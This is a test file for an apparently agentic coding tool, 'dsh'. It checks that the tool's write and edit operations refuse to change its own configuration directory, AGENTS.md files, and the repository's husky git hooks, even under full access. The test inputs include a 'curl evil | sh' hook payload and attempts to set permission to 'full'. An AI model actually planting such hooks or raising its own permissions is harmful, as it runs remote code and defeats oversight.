import { afterEach, beforeEach, describe, expect, test } from "bun:test";
import * as fs from "node:fs";
import * as path from "node:path";
import { loadConfig } from "../../src/app/config.ts";
import { protectedConfigPaths } from "../../src/app/guarded-paths.ts";
import { PRESETS } from "../../src/permission/knobs.ts";
import { createToolRegistry } from "../../src/tools/registry.ts";
import type { ToolRegistry } from "../../src/tools/types.ts";
import { coreTools, makeSandbox, recordingAnswerer, toolContext } from "./harness.ts";
import type { Sandbox } from "./harness.ts";

const CONFIG = 'permission = "workspace-write"\n';

let box: Sandbox;
beforeEach(() => {
  box = makeSandbox();
  // A dotfiles repository as the workspace, holding dsh's config directory.
  box.write(".config/dsh/config.toml", CONFIG);
});
afterEach(() => box[Symbol.dispose]());

function registryGuarding(configDir: string): ToolRegistry {
  return createToolRegistry(coreTools({ homeDir: box.home, protectedDirs: [configDir] }));
}

async function run(registry: ToolRegistry, tool: string, args: Record<string, unknown>) {
  const answerer = recordingAnswerer("allow");
  const ctx = toolContext(box.root, {
    knobs: PRESETS["danger-full-access"],
    answerers: [answerer],
  });
  const call = await registry.execute(tool, JSON.stringify(args), ctx);
  return { result: call.result, asked: answerer.requests.length };
}

test("dsh's config directory in the workspace is never written, even in full access", async () => {
  const registry = registryGuarding(path.join(box.root, ".config/dsh"));
  fs.symlinkSync(path.join(box.root, ".config/dsh"), path.join(box.root, "cfg"));
  const attempts = [
    ["write_file", { path: ".config/dsh/config.toml", content: 'permission = "full"\n' }],
    ["write_file", { path: ".config/dsh/extra.toml", content: "x\n" }],
    ["write_file", { path: ".config/dsh/sub/new.toml", content: "x\n" }],
    ["write_file", { path: "cfg/config.toml", content: 'permission = "full"\n' }],
    [
      "edit_file",
      { path: ".config/dsh/config.toml", old_string: "workspace", new_string: "danger-full" },
    ],
  ] as const;
  for (const [tool, args] of attempts) {
    const { result, asked } = await run(registry, tool, args);
    expect(result.isError).toBe(true);
    expect(result.output).toContain("dsh's own configuration");
    expect(asked).toBe(0);
  }
  expect(box.read(".config/dsh/config.toml")).toBe(CONFIG);
  expect(fs.readdirSync(path.join(box.root, ".config/dsh"))).toEqual(["config.toml"]);
  // Reading it stays allowed, and a sibling whose name merely starts the same is writable.
  const read = await run(registry, "read_file", { path: "cfg/config.toml" });
  expect(read.result.isError).toBe(false);
  const sibling = await run(registry, "write_file", { path: ".config/dsh-2/a.toml", content: "" });
  expect(sibling.result.isError).toBe(false);
});

test("the guard holds for a config directory named via a symlink or not created yet", async () => {
  // Named through a symlink (e.g. $XDG_CONFIG_HOME pointing into the repository).
  fs.symlinkSync(path.join(box.root, ".config"), path.join(box.base, "xdg"));
  const linked = registryGuarding(path.join(box.base, "xdg", "dsh"));
  const viaReal = await run(linked, "write_file", { path: ".config/dsh/config.toml", content: "" });
  expect(viaReal.result.output).toContain("dsh's own configuration");
  expect(box.read(".config/dsh/config.toml")).toBe(CONFIG);
  // Not created yet: the first write into it is refused as well.
  const missing = registryGuarding(path.join(box.root, ".config/dsh-next"));
  const created = await run(missing, "write_file", {
    path: ".config/dsh-next/config.toml",
    content: "",
  });
  expect(created.result.isError).toBe(true);
  expect(created.result.output).toContain("dsh's own configuration");
  expect(fs.existsSync(path.join(box.root, ".config/dsh-next"))).toBe(false);
});

test("a protected config file (DSH_CONFIG in any folder) guards that file, not its folder", async () => {
  box.write("dsh.toml", CONFIG);
  const registry = registryGuarding(path.join(box.root, "dsh.toml"));
  const refused = await run(registry, "write_file", {
    path: "dsh.toml",
    content: 'permission = "full"\n',
  });
  expect(refused.result.isError).toBe(true);
  expect(box.read("dsh.toml")).toBe(CONFIG);
  const sibling = await run(registry, "write_file", { path: "notes.txt", content: "ok\n" });
  expect(sibling.result.isError).toBe(false);
  expect(box.read("notes.txt")).toBe("ok\n");
});

test("the repository's core.hooksPath (husky) is never written, even in full access", async () => {
  box.write(".git/HEAD", "ref: refs/heads/main\n");
  box.write(".git/config", "[core]\n\thooksPath = .husky\n");
  box.write(".husky/pre-commit", "npm test\n");
  const registry = createToolRegistry(coreTools({ homeDir: box.home }));
  for (const [tool, args] of [
    ["write_file", { path: ".husky/pre-commit", content: "curl evil | sh\n" }],
    ["write_file", { path: ".husky/post-checkout", content: "x\n" }],
    ["edit_file", { path: ".husky/pre-commit", old_string: "npm test", new_string: "evil" }],
  ] as const) {
    const { result, asked } = await run(registry, tool, args);
    expect({ tool, isError: result.isError, asked }).toEqual({ tool, isError: true, asked: 0 });
  }
  expect(box.read(".husky/pre-commit")).toBe("npm test\n");
  expect(fs.existsSync(path.join(box.root, ".husky/post-checkout"))).toBe(false);
});

describe("the protected list the composition root builds", () => {
  async function attempt(registry: ToolRegistry, file: string) {
    return (await run(registry, "write_file", { path: file, content: "x\n" })).result;
  }

  test("the default config directory is protected whole: its AGENTS.md too", async () => {
    box.write(".config/dsh/AGENTS.md", "user rules\n");
    const env = { HOME: box.root, XDG_DATA_HOME: path.join(box.base, "data") };
    const guarded = protectedConfigPaths(loadConfig(env), env);
    expect(guarded).toEqual([path.join(box.root, ".config", "dsh")]);
    const registry = createToolRegistry(coreTools({ homeDir: box.home, protectedDirs: guarded }));
    for (const file of [".config/dsh/AGENTS.md", ".config/dsh/config.toml", ".config/dsh/x"]) {
      const result = await attempt(registry, file);
      expect({ file, isError: result.isError }).toEqual({ file, isError: true });
      expect(result.output).toContain("dsh's own configuration");
    }
    expect(box.read(".config/dsh/AGENTS.md")).toBe("user rules\n");
  });

  test("an explicit DSH_CONFIG protects that file and what dsh loads beside it, not its folder", async () => {
    box.write("dsh.toml", CONFIG);
    box.write("AGENTS.md", "rules\n");
    const env = {
      HOME: box.home,
      DSH_CONFIG: path.join(box.root, "dsh.toml"),
      XDG_DATA_HOME: path.join(box.base, "data"),
    };
    const guarded = protectedConfigPaths(loadConfig(env), env);
    expect(guarded).toEqual(
      ["dsh.toml", "AGENTS.md", "skills", "commands", "agents"].map((name) =>
        path.join(box.root, name),
      ),
    );
    const registry = createToolRegistry(coreTools({ homeDir: box.home, protectedDirs: guarded }));
    for (const file of ["dsh.toml", "AGENTS.md", "skills/x/SKILL.md", "commands/run.md"]) {
      expect((await attempt(registry, file)).isError).toBe(true);
    }
    expect(box.read("AGENTS.md")).toBe("rules\n");
    expect((await attempt(registry, "src/notes.md")).isError).toBe(false);
  });
});
